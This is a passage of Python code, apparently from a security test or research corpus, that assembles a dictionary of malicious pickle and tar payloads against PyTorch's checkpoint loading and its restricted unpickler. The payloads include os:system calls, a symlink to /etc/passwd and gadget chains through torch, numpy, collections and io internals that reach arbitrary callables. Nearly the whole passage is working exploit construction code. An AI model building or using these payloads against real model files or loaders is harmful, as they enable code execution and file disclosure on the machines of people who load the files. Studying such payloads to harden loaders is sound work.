    "tar_view_loader": tar_of(storages=pickled(b"K\0") + pickled(listed(LOADER))), "tar_tensor_count": tar_of(tensors=pickled(LOADER)),
    "tar_tensor_loader": tar_of(tensors=pickled(b"K\1") + pickled(LOADER)), "tar_class_called": tar_of(pickle=pickled(persistent(SHOWN, PRINT, NONE) + many(listed()) + b"R")),
    "tar_number": tar_of(pickle=pickled(LOADER + b"Q")), "tar_link": tar_of(storages=(tarfile.SYMTYPE, "/etc/passwd")), "tar_hard_link": tar_of(storages=(tarfile.LNKTYPE, "pickle")),
    "tar_second_pickle": tar_of(**{"./pickle": pickled(call(name("os:system"), ARGUMENT))}), "tar_folder": tar_of(**{"pickle/": pickled(call(name("os:system"), ARGUMENT))}),
}


# A call of an annotation calls its class, or the function that stands for it.
def annotation(function):
    return call(name("types:GenericAlias"), function, name("builtins:int"))


LIST_OF_INT = call(name("operator:getitem"), name("typing:List"), name("builtins:int"))
COUNTER_OF_INT = call(name("operator:getitem"), name("collections:Counter"), name("builtins:int"))
CALLABLES = {"function": FUNCTION, "annotation": annotation(FUNCTION), "list_of_int": LIST_OF_INT, "counter_of_int": COUNTER_OF_INT}


def buffer(state):
    return from_type("torch._utils:_rebuild_tensor_v2", TENSOR_ARGS, state, cls="torch.nn.parameter:Buffer")


def with_state(state):
    return call(name("torch._utils:_rebuild_parameter_with_state"), rebuilt(b"}"), b"\x88", b"}", state)


def moved(data):
    return call(name("torch._utils:_rebuild_device_tensor_from_cpu_tensor"), data, name("torch:float32"), short("cpu"), b"\x89")


# The leaf of all trees is one object, and a state would change it for the whole process.
LEAF = call(name("torch.utils._pytree:treespec_leaf"))
ATTACKS |= {"state_of_the_leaf": built(LEAF, listed(FUNCTION, NONE, NONE)), "dict_of_the_leaf": built(LEAF, mapped(type=FUNCTION))}

# `Tensor.__setstate__` gives these to `set_`.
FOUR = many(b"K\1", b"K\2", b"K\3", b"K\4")
DETACHED = name("torch._utils:_rebuild_parameter")
for kind, function in CALLABLES.items():
    ATTACKS |= {f"{kind}_{place}": body for place, body in {
        "keys_of_dict": call(name("builtins:dict"), ordered(keys=function)), "keys_of_slots": call(name("builtins:dict"), built(instance("collections:OrderedDict"), slots(keys=function))),
        "items_of_counter": call(name("collections:Counter"), ordered(items=function)), "dtype": call(name("numpy:dtype"), ordered(names=NONE, keys=function)),
        "setdefault_of_adam": built(instance("torch.optim.adam:Adam"), mapped(param_groups=listed(ordered(setdefault=function)), state=b"}", defaults=b"}")),
        "close_of_bytes": built(instance("io:BytesIO"), many(b"C\1a", b"K\0", mapped(close=function))),
        "close_of_text": built(instance("io:StringIO"), many(short("a"), short("\n"), b"K\0", mapped(close=function))),
        "factory": call(name("numpy:dtype"), call(name("collections:defaultdict"), function)) if kind in ("function", "annotation") else call(name("builtins:iter"), function, NONE),
        "of_from_type": call(name("builtins:dict"), from_type("collections:OrderedDict", many(), mapped(keys=function), cls="collections:OrderedDict")),
        "factory_of_from_type": call(name("numpy:dtype"), from_type("collections:defaultdict", many(function), b"}", cls="collections:defaultdict")),
        "detach_of_buffer": call(DETACHED, buffer(mapped(detach=function)), b"\x88", b"}"), "detach_of_slots": call(DETACHED, buffer(slots(detach=function)), b"\x88", b"}"),
        "detach_of_parameter": call(name("torch.nn.parameter:Parameter"), with_state(mapped(detach=function))), "to_of_buffer": moved(buffer(mapped(to=function))),
        "to_of_parameter": moved(with_state(slots(to=function))), "unbind": call(name("builtins:list"), with_state(mapped(dim=function, unbind=function))),
        "set_of_buffer": built(buffer(mapped(set_=function)), FOUR), "set_of_slots": built(buffer(slots(set_=function)), FOUR), "set_of_parameter": built(with_state(mapped(set_=function)), FOUR),
        "as_subclass": from_type("torch._utils:_rebuild_parameter_with_state", many(rebuilt(b"}"), b"\x88", b"}", mapped(as_subclass=function)), cls="torch.nn.parameter:Buffer"),
        "state_of_module": built(LINEAR, function)}.items()}
